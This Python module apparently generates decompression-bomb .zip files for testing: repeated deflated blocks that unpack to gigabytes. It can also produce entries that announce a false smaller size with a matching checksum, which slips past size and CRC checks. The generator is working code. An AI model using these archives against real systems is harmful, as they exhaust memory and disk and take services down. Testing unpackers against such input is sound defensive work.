"""Files of a few megabytes that unpack to gigabytes: one packed block, repeated.

Nothing of the size of what is unpacked is ever held here, so a bomb takes no time to make.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass

BLOCK = 1 << 20


@dataclass(frozen=True)
class Entry:
    """One entry of a .zip, packed.

    Attributes:
        name: Its name.
        packed: Its bytes, deflated.
        size: Of what they unpack to, as the archive announces it.
        crc: Of so many bytes.
    """

    name: str
    packed: bytes
    size: int
    crc: int


def plain(name: str, data: bytes) -> Entry:
    """An honest entry."""
    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Entry(name, packing.compress(data) + packing.flush(), len(data), zlib.crc32(data))


def repeated(
    name: str, head: bytes, word: bytes, tail: bytes, *, size: int, announced: int | None = None
) -> Entry:
    """An entry of ``head``, the same word over and over, and ``tail``.

    Args:
        name: Its name.
        head: What it begins with.
        word: What is repeated.
        tail: What it ends with.
        size: About what it unpacks to.
        announced: So many bytes are announced in place of all, and the checksum is that of the
            announced ones: nothing is wrong with them.
    """
    block = word * (BLOCK // len(word))
    times = size // len(block)
    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
    pieces = [packing.compress(head) + packing.flush(zlib.Z_FULL_FLUSH)]
    again = zlib.compressobj(9, zlib.DEFLATED, -15)
    pieces += [again.compress(block) + again.flush(zlib.Z_FULL_FLUSH)] * times
    end = zlib.compressobj(9, zlib.DEFLATED, -15)
    pieces += [end.compress(tail) + end.flush()]
    if announced is not None:
        whole, rest = divmod(announced - len(head), len(block))
        crc = zlib.crc32(block[:rest], _crc(head, block, whole))
        return Entry(name, b"".join(pieces), announced, crc)
    crc = zlib.crc32(tail, _crc(head, block, times))
    return Entry(name, b"".join(pieces), len(head) + len(block) * times + len(tail), crc)


def _crc(head: bytes, block: bytes, times: int) -> int:
    """The checksum of a head and a repeated block.

    What a block does to a checksum is the same each time: a linear map, known by its 32 columns.
    """
    nothing = bytes(len(block))
    zero = zlib.crc32(nothing)
    columns = [zlib.crc32(nothing, 1 << bit) ^ zero for bit in range(32)]
    mine = zlib.crc32(block)
    crc = zlib.crc32(head)
    for _ in range(times):
        moved = 0
        for bit in range(32):
            if crc >> bit & 1:
                moved ^= columns[bit]
        crc = moved ^ mine
    return crc


def archive(*entries: Entry) -> bytes:
    """A .zip of these entries."""
    files, directory = b"", b""
    for entry in entries:
        name = entry.name.encode()
        common = struct.pack(
            "<HHHHHIIIHH",
            20, 0x800, 8, 0, 0x21, entry.crc, len(entry.packed), entry.size, len(name), 0,
        )  # fmt: skip
        directory += b"PK\1\2" + struct.pack("<H", 20) + common
        directory += struct.pack("<HHHII", 0, 0, 0, 0, len(files)) + name
        files += b"PK\3\4" + common + name + entry.packed
    count, at, length = len(entries), len(files), len(directory)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, length, at, 0)
    return files + directory + b"PK\5\6" + end
